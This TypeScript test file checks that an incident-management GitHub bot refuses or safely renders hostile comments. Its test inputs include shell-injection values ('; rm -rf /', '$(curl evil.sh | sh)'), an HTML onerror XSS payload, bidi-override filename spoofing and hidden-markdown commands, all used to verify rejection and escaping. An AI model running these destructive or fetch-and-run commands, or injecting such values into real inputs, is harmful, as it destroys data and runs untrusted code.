// Hostile command comments on a declared SEV2 incident: huge lines, invisible and deceptive unicode,
// control characters, markdown that hides or fakes things, `/rollback` targets that are not commits,
// and mentions that must not ping. Each case asserts the answer and every write.
import { describe, expect, it } from "vitest";
import { commentNode, labelId } from "../helpers/graphql.js";
import { operationRequests, requestLine, useFixedClock } from "../helpers/harness.js";
import { answerRevert, REPO_PATH, TARGET } from "../helpers/rollback.js";
import {
  comment,
  commentPayload,
  deliverNothingSent,
  LONE_SURROGATE,
  livePings,
  outcomeLines,
  reaction,
  TRACKER_NODE,
  timelineLines,
  UNSHOWABLE,
} from "./support.js";

useFixedClock(new Date("2026-11-22T14:20:05Z"));

const REPLY_ONLY = [
  "GET /repos/acme/shop/collaborators/carol/permission",
  "POST /graphql IncidentContext",
  "POST /graphql FirebreakWrites",
];
const USAGE_ROLLBACK = "Usage: `/rollback <commit sha or #PR> [reason]`";
const notATarget = (shown: string) =>
  `\`${shown}\` is not a commit or a pull request: only a commit sha (7 to 40 hex characters) or a pull request number (\`#123\`) can be rolled back. ${USAGE_ROLLBACK}`;
const TOO_LONG = "the line is longer than 2000 characters. Try `/help` for the list of commands.";

/** Refused with a clear answer: one reply, 😕, nothing else written, nothing else read. */
const refused: Array<[string, string, string]> = [
  ["a 100 kB command line", `/note ${"x".repeat(100_000)}`, `❌ \`/note ${"x".repeat(74)}\`: ${TOO_LONG}`],
  [
    "a 100 kB line of combining marks",
    `/note Z${"\u0301".repeat(100_000)}`,
    `❌ \`/note Z${"\u0301".repeat(73)}\`: ${TOO_LONG}`,
  ],
  ["/rollback HEAD~1", "/rollback HEAD~1", `❌ \`/rollback HEAD~1\`: ${notATarget("HEAD~1")}`],
  ["/rollback ../main", "/rollback ../main", `❌ \`/rollback ../main\`: ${notATarget("../main")}`],
  ["/rollback --force", "/rollback --force", `❌ \`/rollback --force\`: ${notATarget("--force")}`],
  ["/rollback ; rm -rf /", "/rollback ; rm -rf /", `❌ \`/rollback ; rm -rf /\`: ${notATarget(";")}`],
  [
    "/rollback $(curl evil.sh | sh)",
    "/rollback $(curl evil.sh | sh)",
    `❌ \`/rollback $(curl evil.sh | sh)\`: ${notATarget("$(curl")}`,
  ],
  [
    "/rollback of a revision:path expression",
    "/rollback 3f2a9c1:src/pay.ts",
    `❌ \`/rollback 3f2a9c1:src/pay.ts\`: ${notATarget("3f2a9c1:src/pay.ts")}`,
  ],
  ["/rollback #0", "/rollback #0", `❌ \`/rollback #0\`: ${notATarget("#0")}`],
  [
    "/rollback of a pull request number beyond GraphQL's Int",
    "/rollback #99999999999",
    `❌ \`/rollback #99999999999\`: ${notATarget("#99999999999")}`,
  ],
  [
    "/rollback of a 6-character sha",
    "/rollback 3f2a9c",
    `❌ \`/rollback 3f2a9c\`: \`3f2a9c\` is not a commit or a pull request: a commit sha needs at least 7 characters. ${USAGE_ROLLBACK}`,
  ],
  [
    "/rollback of HTML",
    "/rollback <img src=x onerror=alert(1)>",
    `❌ \`/rollback <img src=x onerror=alert(1)>\`: ${notATarget("&lt;img")}`,
  ],
  [
    "/role for a team",
    "/role ic @acme/oncall",
    "❌ `/role ic @acme/oncall`: `@acme/oncall` is not a GitHub user name. Usage: `/role ic|lead|comms|scribe @user (or me)`",
  ],
  [
    "a status with a zero-width joiner inside (not invisible to firebreak)",
    "/status identi\u200Dfied",
    "❌ `/status identi\u200Dfied`: unknown status `identi\u200Dfied`; valid: investigating, identified, monitoring, resolved. Usage: `/status investigating|identified|monitoring|resolved [note]`",
  ],
  [
    "a status reversed by a bidi override: read as written, not as shown",
    "/status \u202Edeifitnedi",
    "❌ `/status deifitnedi`: unknown status `deifitnedi`; valid: investigating, identified, monitoring, resolved. Usage: `/status investigating|identified|monitoring|resolved [note]`",
  ],
];

describe("commands: refused with a clear answer, nothing applied", () => {
  it.each(refused)("%s", async (_name, body, line) => {
    const run = await comment(body);

    expect(run.error).toBeNull();
    expect(run.unmatched).toEqual([]);
    expect(operationRequests(run.sent).map(requestLine)).toEqual(REPLY_ONLY);
    expect(run.writes).toEqual([[{ op: "addComment", body: run.reply }, reaction("CONFUSED")]]);
    expect(outcomeLines(run.reply)).toEqual([line]);
    expect(livePings(run.reply ?? "")).toEqual([]);
    expect(run.scope.pendingMocks()).toEqual([]);
  });

  it("a 100 kB line of emoji is cut between characters, never inside one", async () => {
    // "/note x" is 7 UTF-16 units, so cutting at 80 units would halve the 37th emoji.
    const run = await comment(`/note x${"🔥".repeat(50_000)}`);

    expect(run.writes).toEqual([[{ op: "addComment", body: run.reply }, reaction("CONFUSED")]]);
    expect(outcomeLines(run.reply)).toEqual([`❌ \`/note x${"🔥".repeat(36)}\`: ${TOO_LONG}`]);
    expect(run.reply).not.toMatch(LONE_SURROGATE);
    expect(run.scope.pendingMocks()).toEqual([]);
  });

  it("a long line of emoji under the limit: the reply quotes it cut between characters too", async () => {
    // "/status x" is 9 units: the reply's 120-unit quote and the 60-unit echo would each halve an emoji.
    const run = await comment(`/status x${"🔥".repeat(80)}`);

    expect(run.writes).toEqual([[{ op: "addComment", body: run.reply }, reaction("CONFUSED")]]);
    expect(outcomeLines(run.reply)).toEqual([
      `❌ \`/status x${"🔥".repeat(55)}\`: unknown status \`x${"🔥".repeat(29)}…\`; valid: investigating, identified, monitoring, resolved. Usage: \`/status investigating|identified|monitoring|resolved [note]\``,
    ]);
    expect(run.reply).not.toMatch(LONE_SURROGATE);
  });

  it("/rollback of a 40-hex sha that does not exist: one query, no git write", async () => {
    const missing = "d".repeat(40);
    const run = await comment(`/rollback ${missing}`, {
      also: (scope) => answerRevert(scope, { target: { commit: null }, until: "query" }),
    });

    expect(operationRequests(run.sent).map(requestLine)).toEqual([
      "GET /repos/acme/shop/collaborators/carol/permission",
      "POST /graphql IncidentContext",
      "POST /graphql RevertTarget",
      "POST /graphql FirebreakWrites",
    ]);
    expect(run.writes).toEqual([[{ op: "addComment", body: run.reply }, reaction("CONFUSED")]]);
    expect(outcomeLines(run.reply)).toEqual([
      `❌ \`/rollback ${missing}\`: no commit \`${missing}\` in acme/shop`,
    ]);
    expect(run.scope.pendingMocks()).toEqual([]);
  });
});

const IDENTIFIED = [
  { op: "addLabelsToLabelable", labelIds: [labelId("incident/identified")] },
  { op: "removeLabelsFromLabelable", labelIds: [labelId("incident/investigating")] },
];

/** Invisible characters and markup GitHub shows plainly: the command runs as it reads. */
const readsAsShown: Array<[string, string]> = [
  ["a zero-width space inside the command's name (was not a command)", "/st\u200Batus identified"],
  ["a zero-width space after the status (was an unknown status)", "/status identified\u200B"],
  ["a byte-order mark before the slash", "\uFEFF/status identified"],
  ["bidi isolates around the status", "/status \u2066identified\u2069"],
  ["a word joiner inside the name", "/sta\u2060tus identified"],
  [
    "inside <details>, shown when opened",
    "<details><summary>Steps</summary>\n\n/status identified\n\n</details>",
  ],
  ["after a one-line HTML comment", "<!-- firebreak:tracker -->\n/status identified"],
];

describe("commands: run as GitHub shows them", () => {
  it.each(readsAsShown)("%s", async (_name, body) => {
    const run = await comment(body);

    expect(run.error).toBeNull();
    expect(run.writes).toEqual([
      IDENTIFIED,
      [{ op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker }, reaction("THUMBS_UP")],
    ]);
    expect(timelineLines(run.tracker).at(-1)).toBe(
      "- **2026-11-22 14:20 UTC** Status **identified** by @&#8203;carol",
    );
    expect(run.scope.pendingMocks()).toEqual([]);
  });

  it("old Mac line endings (CR alone) separate commands", async () => {
    const run = await comment("/note first\r/status identified");

    expect(run.writes).toEqual([
      IDENTIFIED,
      [{ op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker }, reaction("THUMBS_UP")],
    ]);
    expect(timelineLines(run.tracker).slice(-2)).toEqual([
      "- **2026-11-22 14:20 UTC** Note by @&#8203;carol: first",
      "- **2026-11-22 14:20 UTC** Status **identified** by @&#8203;carol",
    ]);
  });
});

/** Text recorded in the tracker: shown as written, without what would deceive, break or ping. */
const recorded: Array<[string, string, string]> = [
  [
    "a right-to-left override (exe.png that is really gnp.exe)",
    "/note invoice \u202Egnp.exe\u202C attached",
    "Note by @&#8203;carol: invoice gnp.exe attached",
  ],
  [
    "control characters and a terminal escape",
    "/note a\u0000b\u0007c\u001b[31mred\u007f",
    "Note by @&#8203;carol: a b c [31mred",
  ],
  ["emoji sequences, kept whole", "/note 🔥 👩‍👩‍👧‍👦 🇺🇦 ok", "Note by @&#8203;carol: 🔥 👩‍👩‍👧‍👦 🇺🇦 ok"],
  [
    "people and teams mentioned",
    "/note paging @acme/oncall, @bob and @everyone",
    "Note by @&#8203;carol: paging @&#8203;acme/oncall, @&#8203;bob and @&#8203;everyone",
  ],
  [
    "HTML and markdown that would break the tracker",
    "/note </details><img src=x onerror=alert(1)> | a | b | <!-- x",
    "Note by @&#8203;carol: &lt;/details&gt;&lt;img src=x onerror=alert(1)&gt; | a | b | &lt;!-- x",
  ],
  [
    "a team as an action item's owner (not an owner: a person is)",
    "/action-item page the DBA team @acme/dba due:2026-12-01",
    "Action item by @&#8203;carol: page the DBA team @&#8203;acme/dba due 2026-12-01",
  ],
];

describe("commands: recorded text is shown safely", () => {
  it.each(recorded)("%s", async (_name, body, entry) => {
    const run = await comment(body);

    expect(run.writes).toEqual([
      [{ op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker }, reaction("THUMBS_UP")],
    ]);
    expect(timelineLines(run.tracker).at(-1)).toBe(`- **2026-11-22 14:20 UTC** ${entry}`);
    expect(livePings(run.tracker ?? "")).toEqual([]);
    expect(run.tracker).not.toMatch(UNSHOWABLE);
    expect(run.scope.pendingMocks()).toEqual([]);
  });

  it("a long note of emoji is clipped between characters", async () => {
    const run = await comment(`/note x${"🔥".repeat(400)}`);

    expect(run.writes).toEqual([
      [{ op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker }, reaction("THUMBS_UP")],
    ]);
    expect(run.tracker).not.toMatch(LONE_SURROGATE);
    expect(timelineLines(run.tracker).at(-1)).toMatch(/Note by @&#8203;carol: x(🔥)+…$/);
  });

  it("a /cause with table-breaking pipes stays in its cell", async () => {
    const run = await comment("/cause pool | exhausted | by retries");

    expect(run.writes).toEqual([
      [{ op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker }, reaction("THUMBS_UP")],
    ]);
    expect(run.tracker).toContain("| **Cause** | pool \\| exhausted \\| by retries |");
  });

  it("/rollback with a reason naming a team: the revert pull request pings nobody", async () => {
    const run = await comment(`/rollback ${TARGET} @acme/oncall says @bob's retry loop broke checkout`, {
      also: (scope) => answerRevert(scope),
    });

    const opened = run.sent.find(
      (request) => request.method === "POST" && request.path === `${REPO_PATH}/pulls`,
    );
    expect(opened?.body.body).toContain("@&#8203;acme/oncall says @&#8203;bob's retry loop broke checkout");
    expect(livePings(opened?.body.body ?? "")).toEqual([]);
    expect(livePings(opened?.body.title ?? "")).toEqual([]);
    expect(run.writes.at(-1)?.at(-1)).toEqual(reaction("THUMBS_UP"));
    expect(livePings(run.reply ?? "")).toEqual([]);
    expect(run.scope.pendingMocks()).toEqual([]);
  });

  it("/update naming a team and @everyone: the status update pings nobody", async () => {
    const run = await comment("/update @acme/oncall please look, @everyone hold deploys");

    expect(run.writes).toEqual([
      [
        { op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker },
        { op: "addComment", body: run.reply },
        reaction("THUMBS_UP"),
      ],
    ]);
    expect(run.reply).toContain("@&#8203;acme/oncall please look, @&#8203;everyone hold deploys");
    expect(livePings(run.reply ?? "")).toEqual([]);
    expect(livePings(run.tracker ?? "")).toEqual([]);
  });
});

describe("commands: markdown that hides or fakes", () => {
  it("a command hidden in an HTML comment and a visible one: only the visible one runs", async () => {
    const run = await comment("<!--\n/status resolved\n-->\n/note visible");

    expect(run.writes).toEqual([
      [{ op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker }, reaction("THUMBS_UP")],
    ]);
    expect(timelineLines(run.tracker).at(-1)).toBe(
      "- **2026-11-22 14:20 UTC** Note by @&#8203;carol: visible",
    );
    expect(run.tracker).toContain("## 🔥 SEV2 High incident · investigating");
  });

  it("a person's comment that starts with the tracker's marker is not the tracker", async () => {
    const fake = commentNode(
      2500,
      "<!-- firebreak:tracker -->\n## ✅ SEV4 resolved",
      "2026-11-22T14:10:00Z",
      {
        author: "mallory",
      },
    );
    const run = await comment("/note checking the pool", { before: [fake] });

    // The real tracker (firebreak's comment) is the one updated; the fake one is left alone.
    expect(run.writes).toEqual([
      [{ op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker }, reaction("THUMBS_UP")],
    ]);
    expect(run.tracker).toContain("## 🔥 SEV2 High incident · investigating");
  });

  it("a person's fake reply marker does not mark the command as answered", async () => {
    const fake = commentNode(
      2500,
      "<!-- firebreak:reply:2001 applied:1 -->\nalready done",
      "2026-11-22T14:19:00Z",
      {
        author: "mallory",
      },
    );
    const run = await comment("/status identified", { before: [fake] });

    expect(run.writes).toEqual([
      IDENTIFIED,
      [{ op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker }, reaction("THUMBS_UP")],
    ]);
  });

  it("a person's fake checklist marker does not stop the real checklist", async () => {
    const fake = commentNode(
      2500,
      "<!-- firebreak:checklist:verify -->\n- [x] all fine",
      "2026-11-22T14:19:00Z",
      {
        author: "mallory",
      },
    );
    const run = await comment("/status monitoring", { before: [fake] });

    const [checklist] = run.comments;
    expect(run.writes).toEqual([
      [
        { op: "addLabelsToLabelable", labelIds: [labelId("incident/monitoring")] },
        { op: "removeLabelsFromLabelable", labelIds: [labelId("incident/investigating")] },
      ],
      [
        { op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker },
        { op: "addComment", body: checklist },
        reaction("THUMBS_UP"),
      ],
    ]);
    expect(checklist?.startsWith("<!-- firebreak:checklist:verify -->\n")).toBe(true);
  });

  it("100 kB of prose around one command: the command runs, the prose is ignored", async () => {
    const prose = "Logs: connection reset by peer. ".repeat(3_200);
    const run = await comment(`${prose}\n/note pool exhausted\n${prose}`);

    expect(run.writes).toEqual([
      [{ op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker }, reaction("THUMBS_UP")],
    ]);
    expect(timelineLines(run.tracker).at(-1)).toBe(
      "- **2026-11-22 14:20 UTC** Note by @&#8203;carol: pool exhausted",
    );
  });

  it("a thousand /note lines: all recorded in one write, the tracker within GitHub's limit", async () => {
    const run = await comment(Array.from({ length: 1_000 }, (_, i) => `/note n${i}`).join("\n"));

    expect(run.writes).toEqual([
      [{ op: "updateIssueComment", id: TRACKER_NODE, body: run.tracker }, reaction("THUMBS_UP")],
    ]);
    expect(run.reply).toBeUndefined();
    expect(run.tracker?.length).toBeLessThan(65_536);
    expect(timelineLines(run.tracker).at(-1)).toBe("- **2026-11-22 14:20 UTC** Note by @&#8203;carol: n999");
  });
});

/** Not commands at all on an incident: nothing is sent, not even the token. */
const notCommands: Array<[string, string]> = [
  ["a command inside a multi-line HTML comment (was run, unseen)", "Status?\n<!--\n/status resolved\n-->"],
  ["a command inside a one-line HTML comment", "<!-- /status resolved -->"],
  ["a command after a comment opened on a text line", "See below <!-- hidden\n/status resolved\n-->"],
  ["a command as a link's text", "[/status resolved](https://example.com)"],
  ["a command as an image's alt text", "![/status resolved](https://example.com/x.png)"],
  ["a full-width slash", "／status resolved"],
  ["a quoted command", "> /status resolved"],
  ["a command in inline code", "`/status resolved`"],
  ["a command in a fenced block", "```\n/status resolved\n```"],
  ["a command indented as code", "    /status resolved"],
];

describe("commands: text that is not a command costs nothing", () => {
  it.each(notCommands)("%s", async (_name, body) => {
    const { error, logs } = await deliverNothingSent({
      name: "issue_comment",
      payload: commentPayload(body),
    });

    expect(error).toBeNull();
    expect(logs.filter((line) => line.level >= 40)).toEqual([]);
  });
});
